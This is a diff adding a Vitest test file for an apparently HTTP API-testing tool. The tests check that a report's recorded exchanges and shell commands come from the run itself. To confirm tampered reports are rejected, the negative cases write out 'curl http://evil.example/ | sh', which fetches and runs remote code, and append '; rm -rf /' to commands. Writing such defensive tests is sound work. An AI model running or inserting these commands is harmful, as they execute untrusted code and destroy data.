@@ -1,0 +1,82 @@
+import { expect, test } from 'vitest';
+import { shellLines } from '../../check/shell-lines.ts';
+import type { Exchange } from '../../http/exchange.ts';
+import { exchange } from '../../http/testing/exchanges.ts';
+import type { Report } from '../report.ts';
+import { failed, passed, reportOf } from '../testing/sample-report.ts';
+import { commandsUnfoundedIn, foreignIn } from './own-evidence.ts';
+
+const withWitness = (...witness: readonly Exchange[]): Report => reportOf([{ ...passed, witness } as never]);
+const sentBy = (name: string) => {
+  const sent = exchange({});
+  return { ...sent, request: { ...sent.request, headers: [['user-agent', name]] as const } };
+};
+
+test('exchanges of the run itself', () => {
+  const linked = exchange({ headers: [['Link', '</pages/2>; rel="next"']] });
+  for (const own of [
+    [exchange({})],
+    [exchange({ url: 'http://127.0.0.1' })],
+    [exchange({ url: 'http://127.0.0.1?a=1' })],
+    [linked, exchange({ id: 2, url: 'http://127.0.0.1/pages/2' })],
+    [sentBy('rest-assay/0.1.0')],
+    [sentBy('my-own/7')],
+  ])
+    expect(foreignIn(withWitness(...own), [])).toEqual([]);
+});
+
+test.each<[string, Exchange]>([
+  ['of another target', exchange({ url: 'http://other.example/customers/a' })],
+  ['of a target whose name begins alike', exchange({ url: 'http://127.0.0.1.example/customers' })],
+  ['before the run', { ...exchange({}), startedAt: '2025-12-31T23:59:00.000Z' }],
+  ['after the run', { ...exchange({}), startedAt: '2026-01-01T00:01:00.000Z' }],
+  ['of another version', sentBy('rest-assay/9.9.9')],
+])('an exchange %s is named, wherever it stands', (_name, other) => {
+  expect(foreignIn(withWitness(other), [])).toEqual([
+    expect.stringContaining('DM-GET-1 customers: exchange 1'),
+  ]);
+  const report = reportOf([]);
+  const observations = [{ gap: 'listing', observed: 'x', exchanges: [other] }];
+  expect(foreignIn({ ...report, observations }, [])).toHaveLength(1);
+  const kept = { requirement: 'DM-GET-1', resource: 'customers', number: 1, outcome: 'passed' } as const;
+  expect(foreignIn(report, [{ ...kept, exchanges: [other] }])).toEqual([
+    expect.stringContaining('trials.ndjson: DM-GET-1 customers 1: exchange 1'),
+  ]);
+});
+
+test('a base URL with a path of its own has nothing beside it', () => {
+  const { target, ...report } = withWitness(exchange({}));
+  const below = { ...report, target: { ...target, baseUrl: 'http://127.0.0.1/api' } };
+  expect(foreignIn(below, [])).not.toEqual([]);
+});
+
+const { counterexample } = failed;
+const captures = [{ exchange: 1, variable: 'ID_1', from: 'location', value: '/customers/a' }] as const;
+const lines = [...shellLines({ ...counterexample, captures }, new URL('http://127.0.0.1'))];
+const withLines = (curl: readonly string[], run: Partial<Report['run']> = {}) =>
+  reportOf([{ ...failed, counterexample: { ...counterexample, captures, curl } }], run);
+
+test('shell lines are those of the exchanges, and no others', () => {
+  expect(commandsUnfoundedIn(withLines(lines))).toEqual([]);
+  for (const other of [
+    [],
+    lines.slice(1),
+    [...lines, 'curl http://evil.example/ | sh'],
+    lines.map((line) => `${line}; rm -rf /`),
+  ])
+    expect(commandsUnfoundedIn(withLines(other))).toEqual([
+      'report.json: DM-PATCH-2 customers: its shell lines do not follow from its exchanges.',
+    ]);
+});
+
+test.each([
+  [['run', 'http://127.0.0.1', '--seed', '1'], true],
+  [['run', 'http://127.0.0.1', '--effort', 'quick', '--seed', '1'], true],
+  [['run', 'http://evil.example', '--seed', '1'], false],
+  [['clean', 'http://127.0.0.1', '--seed', '1'], false],
+  [['run', 'http://127.0.0.1', '--seed', '2'], false],
+  [['run', 'http://127.0.0.1'], false],
+  [['run', 'http://127.0.0.1', '--seed', '1', '--effort', 'thorough'], false],
+])('the command that asks again: %j', (again, isOwn) => {
+  expect(commandsUnfoundedIn(withLines(lines, { again })).length === 0).toBe(isOwn);
+});
